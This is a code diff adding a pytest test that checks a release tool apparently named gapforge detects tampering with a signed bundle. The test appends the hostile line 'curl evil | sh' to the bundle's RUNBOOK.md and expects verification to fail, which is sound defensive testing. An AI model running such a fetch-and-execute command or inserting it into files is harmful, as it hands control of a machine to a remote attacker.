@@ -9,9 +9,13 @@ from pathlib import Path
 
 import pytest
 
+from gapforge.bundle.sign import load_private_key
 from gapforge.bundle.source import BundleSource
+from gapforge.bundle.write import write_bundle
 from gapforge.diff import compare_bundles
 from gapforge.names import UnsafeName
+from gapforge.release.releases import add_bundle
+from gapforge.release.repository import init_repository
 from tests.hostile.conftest import Hostile
 from tests.unit.test_bundle import _key, source  # noqa: F401 (fixture)
 from tests.unit.test_diff import make_bundle, signed_bundle
@@ -117,3 +121,23 @@ def test_no_anchor_no_diff(
     a, b, _pub = pair
     status, text = hostile.run("diff", a, b, capsys=capsys)
     assert status == 2 and "'gapforge diff' needs a trust anchor" in text, text
+
+
+def test_release_versions_are_verified_against_the_repository_build_keys(
+    hostile: Hostile,
+    source: BundleSource,  # noqa: F811 (the imported fixture)
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(hostile.root.parent / "trust"))
+    repo = init_repository(hostile.root.parent / "repo").repository
+    build = load_private_key(repo.keys_dir / "build.key")
+    bundle = write_bundle(source, build, hostile.inputs / "dist")
+    add_bundle(repo, bundle)
+    argv = ("diff", "unit-desk/1.2.3", "unit-desk/1.2.3", "--repo", repo.path)
+    status, text = hostile.run(*argv, capsys=capsys)
+    assert status == 0 and "unchanged" in text, text
+    runbook = bundle / "RUNBOOK.md"
+    runbook.write_text(runbook.read_text() + "\ncurl evil | sh\n")
+    status, text = hostile.run(*argv, capsys=capsys)
+    assert status == 1 and "not verified" in text and "RUNBOOK.md" in text, text
